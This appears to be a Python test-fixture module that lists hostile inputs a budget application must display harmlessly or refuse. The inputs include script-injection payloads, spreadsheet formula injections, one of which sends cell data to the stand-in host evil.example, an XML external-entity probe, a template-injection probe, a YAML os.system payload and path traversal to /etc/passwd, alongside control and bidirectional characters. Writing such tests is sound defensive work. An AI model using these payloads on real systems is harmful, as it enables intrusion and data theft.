"""What hostile people type: texts that every page, paper and file shows as they are, and texts that are refused."""

from __future__ import annotations

from typing import Final

from hypothesis import strategies as st

from budget.core import DESCRIPTION, NAME, mended

FOREIGN: Final = "evil.example"
"""The host that every hostile address names; nothing may ever ask it for anything."""

ACCEPTED: Final[dict[str, str]] = {
    "image": "![b](http://evil.example/x.png)",
    "link": "[klik](http://evil.example) <http://evil.example> http://evil.example www.evil.example a@evil.example",
    "reference": "[klik][1] [1]: http://evil.example",
    "script": "<script>alert(1)</script><img src=//evil.example/x onerror=alert(1)><svg onload=alert(1)>",
    "frame": "</p></td></style><iframe src=//evil.example></iframe><a href='javascript:alert(1)'>klik</a>",
    "attribute": "\" onmouseover=\"alert(1)\" x=\"' onfocus='alert(1)' autofocus='",
    "javascript": "javascript:alert(1) [klik](javascript:alert(1)) data:text/html,<script>alert(1)</script>",
    "marks": "**vet** _schuin_ `code` ~~door~~ # kop | a | b | $x^2$ :red[rood] :smile: :material/home:",
    "signs": "a -> b <- c <-> d -- e >= f <= g ~= h (c) ... 1. x",
    "entity": "&lt;b&gt; &amp; &#60; &nbsp; <!DOCTYPE x [<!ENTITY e SYSTEM 'http://evil.example/e'>]> &e;",
    "xml": "]]><w:p/></w:t><![CDATA[x]]> <?xml version='1.0'?> _x0041_ _x000D_",
    "jinja": "{{ 7*7 }} {% for x in ().__class__.__mro__ %}{{ x }}{% endfor %} {# weg #} {{r x }} {%p x %}",
    "format": "{name} {0} {0.__class__} %s %(name)s ${x} #{x} \\n \\u0041",
    "formula": '=HYPERLINK("http://evil.example","klik")',
    "command": "=cmd|' /C calc'!A0",
    "plus": "+1+1",
    "minus": "-2+3",
    "at": "@SUM(1+1)",
    "braced": "{=1+1}",
    "web": '=WEBSERVICE("http://evil.example/?"&A1)',
    "vega": 'datum.x ? signal(\'a\') : {"signal":"width"} \\\' + alert(1)',
    "css": 'a"; } </style><style>body{background:url(http://evil.example/x)}',
    "yaml": "a: b # c - [d, e] {f: g} &h *h !!python/object/apply:os.system ['true'] | > ' \"",
    "path": "../../etc/passwd\\..\\x:con|nul?*.xlsx",
    "number": "0012.50",
    "error": "#N/A",
    "truth": "TRUE",
    "family": "👩‍⚕️ en 👨‍👩‍👧 – می‌خواهم – e\u0301 – \U0001f1f3\U0001f1f1",
    "long": "W" * NAME.most,
}
"""Names that are accepted; each shows as it is and is nothing else anywhere."""

REFUSED: Final[dict[str, str]] = {
    "no character": "a\ufffeb",
    "no character, far": "a\U0001fffeb",
    "no character, arabic": "a\ufdd0b",
    "zero": "a\0b",
    "bell": "a\x07b",
    "escape": "a\x1b[31mb",
    "next line": "a\x85b",
    "line": "a\nb",
    "tab": "a\tb",
    "line separator": "a\u2028b",
    "half a character": "a\ud800b",
    "right to left": "a\u202exslx.b",
    "isolate": "a\u2066b\u2069",
    "mark of direction": "a\u200fb",
    "no width": "a\u200bb",
    "joiner alone": "a\u200db",
    "word joiner": "a\u2060b",
    "byte order mark": "a\ufeffb",
    "soft hyphen": "a\u00adb",
    "tag": "a\U000e0041b",
    "filler": "\u3164\u3164",
    "marks alone": "\u0301\u0301",
    "too long": "W" * 5000,
}
"""Names that are refused, each for one reason."""

ANYTHING: Final = st.text(
    st.one_of(st.characters(), st.sampled_from("=+-@<>&{}[]'\"\\#:|`~*_\u200d\u200b\u202e\ufffe\n\r\t \u0301👩é")),
    max_size=300,
)
NAMES: Final = ANYTHING.map(lambda text: mended(text, NAME))
"""Every name that is accepted, the empty one too."""
DESCRIPTIONS: Final = ANYTHING.map(lambda text: mended(text, DESCRIPTION))
